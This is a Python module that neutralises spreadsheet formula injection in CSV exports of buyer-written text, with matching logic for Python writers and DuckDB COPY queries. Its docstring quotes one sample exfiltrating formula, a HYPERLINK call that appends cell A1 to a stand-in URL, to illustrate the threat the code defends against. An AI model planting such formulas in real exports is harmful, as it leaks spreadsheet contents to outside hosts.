"""CSV for spreadsheets: text cells that a spreadsheet would run as a formula are made inert.

A cell that begins with `=`, `+`, `-` or `@` (also after leading blanks, and the full-width
`＝＋－＠` some spreadsheet locales accept), or with a tab or carriage return, is taken as a
formula by Excel, LibreOffice and Google Sheets ("CSV injection", OWASP). Buyer-written text
reaches the exports (an Appeal Reason of `=HYPERLINK("http://x/?"&A1,"open")`), so such a text
cell gets a leading single quote, as OWASP recommends: spreadsheets show the cell as text
(the quote itself is not displayed by Excel). Only text cells are touched: numbers, dates and booleans stay as they are (a negative refund stays a
number). Parquet is typed and needs none of this.

Two entry points with the same rule: `neutralise_cell` for Python writers (csv module), and
`neutralised_sql` / `csv_safe_select` for DuckDB `COPY ... (FORMAT csv)`.
"""

from __future__ import annotations

import duckdb

FORMULA_GUARD = "'"
# First characters (after leading white space) that start a formula.
FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
# First characters that make a cell suspect even before any white space is skipped.
CONTROL_STARTS = "\t\r"
# The white space str.isspace() knows, as an RE2 class, so Python and DuckDB agree cell for cell.
_RE2_SPACE = r"[\t\n\x{0B}\x{0C}\r\x{1C}-\x{1F}\x{85}\p{Z}]"
_RE2_FORMULA = "^(?:[\\t\\r]|" + _RE2_SPACE + "*[=+\\-@\\x{FF1D}\\x{FF0B}\\x{FF0D}\\x{FF20}])"
# DuckDB column types whose CSV text is the cell's own text (lists, structs and JSON render with
# a leading bracket or quote, numbers and dates as numbers and dates).
TEXT_TYPES = {"VARCHAR"}


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text cell as a formula?"""
    if not text:
        return False
    return text[0] in CONTROL_STARTS or text.lstrip()[:1] in tuple(FORMULA_STARTS)


def neutralise_cell(value: object) -> object:
    """`value` with a leading single quote if it is text a spreadsheet would run; anything else as is."""
    if isinstance(value, str) and is_formula_like(value):
        return FORMULA_GUARD + value
    return value


def neutralised_sql(column_sql: str) -> str:
    """A DuckDB expression: the text column `column_sql` neutralised like `neutralise_cell`."""
    pattern = _RE2_FORMULA.replace("'", "''")
    return (
        f"CASE WHEN regexp_matches({column_sql}, '{pattern}') "
        f"THEN '{FORMULA_GUARD * 2}' || {column_sql} ELSE {column_sql} END"
    )


def quote_identifier(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def csv_safe_select(con: duckdb.DuckDBPyConnection, table: str) -> str:
    """`SELECT` of every column of `table`, text columns neutralised, names and order kept."""
    columns = con.execute(
        "SELECT column_name, data_type FROM duckdb_columns() WHERE database_name = current_database() "
        "AND schema_name = current_schema() AND table_name = ? ORDER BY column_index",
        [table],
    ).fetchall()
    if not columns:
        raise ValueError(f"no table {table}")
    parts = []
    for name, data_type in columns:
        ident = quote_identifier(name)
        parts.append(f"{neutralised_sql(ident)} AS {ident}" if data_type in TEXT_TYPES else ident)
    return f"SELECT {', '.join(parts)} FROM {quote_identifier(table)}"
